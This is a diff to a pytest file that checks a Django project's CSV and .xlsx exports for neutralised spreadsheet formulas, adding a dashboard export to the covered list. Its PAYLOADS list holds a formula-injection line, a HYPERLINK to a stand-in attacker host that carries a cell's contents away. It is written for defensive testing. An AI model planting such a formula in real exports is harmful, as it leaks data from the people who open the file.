@@ -18,9 +18,10 @@ from openpyxl import load_workbook
 
 from core.exports import FORMULA_TRIGGERS, csv_bytes, csv_cell, is_formula_like
 from evaluation.services import reviews as review_services
-from tests.access_routes import lists, reviews, tracking
+from tests.test_access import ROUTES
 from tests.accounts.factories import UserFactory
 from tests.evaluation.test_reviews import build_plan
+from tests.territories.factories import CommuneFactory
 
 PAYLOADS = [
     '=HYPERLINK("http://attaquant.example/?v="&A1,"y")',
@@ -65,6 +66,7 @@ def plant_formulas() -> int:
 @pytest.fixture
 def planted(convention, adviser):
     build_plan(convention)
+    CommuneFactory(departement=convention.caf.departement)  # outside every convention: in the dashboard's export
     review = review_services.review_create(convention=convention, kind="annuel", year=2024, user=adviser)
     count = plant_formulas()
     assert count > 100
@@ -74,23 +76,26 @@ def planted(convention, adviser):
 def exports(planted) -> dict[str, str]:
     convention, review = planted["convention"], planted["review"]
     kwargs = {"convention_pk": convention.pk}
+    dashboard = reverse("dashboard:export", kwargs={"table": "communes-non-couvertes"})
     return {
         "liste des conventions (CSV)": reverse("conventions:list_export") + "?format=csv",
         "liste des conventions (.xlsx)": reverse("conventions:list_export") + "?format=xlsx",
         "bilan (.xlsx)": reverse("evaluation:review_xlsx", kwargs={**kwargs, "review_pk": review.pk}),
         "tableau de suivi (.xlsx)": reverse("evaluation:tracking_export", kwargs=kwargs),
+        "tableau de bord, communes non couvertes (CSV)": dashboard + "?format=csv",
+        "tableau de bord, communes non couvertes (.xlsx)": dashboard + "?format=xlsx",
     }
 
 
 def test_every_export_of_the_project_is_tested():
     """A new export (a URL name saying export, xlsx or csv) must join the list above."""
-    names = {
-        name
-        for module in (lists, reviews, tracking)
-        for name in module.ROUTES
-        if any(word in name for word in ("export", "xlsx", "csv"))
+    names = {name for name in ROUTES if any(word in name for word in ("export", "xlsx", "csv"))}
+    assert names == {
+        "conventions:list_export",
+        "evaluation:review_xlsx",
+        "evaluation:tracking_export",
+        "dashboard:export",
     }
-    assert names == {"conventions:list_export", "evaluation:review_xlsx", "evaluation:tracking_export"}
 
 
 def live_formulas_xlsx(content: bytes) -> tuple[int, int, list]:
@@ -131,10 +136,10 @@ def test_no_live_formula_in_any_export(client, planted, adviser):
         check = live_formulas_csv if "CSV" in label else live_formulas_xlsx
         results[label] = check(response.content)
     for label, (found, _neutralised, _live) in results.items():
-        assert found >= 2, f"{label} : la formule plantée n'apparaît pas, le test ne prouverait rien"
+        assert found >= 1, f"{label} : la formule plantée n'apparaît pas, le test ne prouverait rien"
     clean = [label for label, (found, neutralised, live) in results.items() if not live and neutralised == found]
     print(f"\n0 formule active dans {len(clean)} exports sur {len(results)} : {results}")
-    assert len(clean) == len(results) == 4, {label: results[label] for label in results if label not in clean}
+    assert len(clean) == len(results) == 6, {label: results[label] for label in results if label not in clean}
 
 
 def test_csv_cell_rule():
